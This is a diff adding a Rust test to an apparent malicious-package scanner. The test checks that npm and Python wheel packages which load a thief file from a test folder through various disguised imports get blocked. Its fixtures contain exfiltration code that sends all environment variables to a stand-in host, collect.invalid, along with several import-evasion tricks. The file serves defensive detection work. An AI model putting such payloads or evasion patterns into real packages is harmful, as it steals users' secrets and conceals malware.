@@ -1,6 +1,6 @@
 //! What stands in a package does not make its own code weigh less.
 
-use crate::support::{Folder, gzip_of, records_of, scan, tar_of};
+use crate::support::{Folder, gzip_of, records_of, scan, tar_of, zip_of};
 
 const MANIFEST: &str = r#"{"name":"inert","version":"1.0.0","main":"index.js"}"#;
 const THIEF: &str = "const https = require('https');\nconst r = https.request({ host: 'collect.invalid', method: 'POST' });\n\
@@ -140,6 +140,47 @@ fn an_attack_over_several_files_is_followed_whatever_lies_beside_it() {
     }
     // In a program of very many files things of many purposes come together: people decide, and it is told.
     assert_eq!(verdict_of("lib/b", 60), "review");
+}
+
+#[test]
+fn who_hides_in_a_folder_of_tests_is_found_there() {
+    // In a package of hardly any code less is needed.
+    let rest = "exports.one = (a) => a + 1;\n".repeat(1000);
+    for loads in [
+        "require('./test/x')",
+        "require('./te' + 'st/x')",
+        "require(require('path').join(__dirname, 'test', 'x.js'))",
+        "require('fs').readdirSync(__dirname + '/test').forEach((f) => require(`./test/${f}`))",
+        "require('child_process').fork(__dirname + '/test/x.js')",
+    ] {
+        let index = format!("{rest}{loads};\n");
+        let files =
+            [("package/package.json", MANIFEST), ("package/index.js", index.as_str()), ("package/test/x.js", THIEF)];
+        assert_eq!(verdict(&files), "block", "{loads}");
+    }
+    let unused = [("package/package.json", MANIFEST), ("package/index.js", &*rest), ("package/test/x.js", THIEF)];
+    assert_eq!(verdict(&unused), "pass");
+
+    let thief = "import os, json, urllib.request\nurllib.request.urlopen(urllib.request.Request('https://collect.invalid/x', \
+                 data=json.dumps(dict(os.environ)).encode()))\n";
+    let rest = "def one(a):\n    return a + 1\n".repeat(1000);
+    for loads in [
+        "from .tests import x",
+        "from pkg.tests import x",
+        "import importlib; importlib.import_module('pkg.te' + 'sts.x')",
+        "import os, sys, subprocess\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), 'tests', 'x.py')])",
+    ] {
+        let init = format!("{rest}{loads}\n");
+        let folder = Folder::new();
+        let wheel = zip_of([
+            ("pkg/__init__.py", init.as_str()),
+            ("pkg/tests/x.py", thief),
+            ("pkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n"),
+        ]);
+        let path = folder.put("pkg-1.0-py3-none-any.whl", wheel);
+        let run = records_of(scan([path.into_os_string()]));
+        assert_eq!(run.artifact("pkg-1.0-py3-none-any.whl")["verdict"], "block", "{loads}");
+    }
 }
 
 #[test]
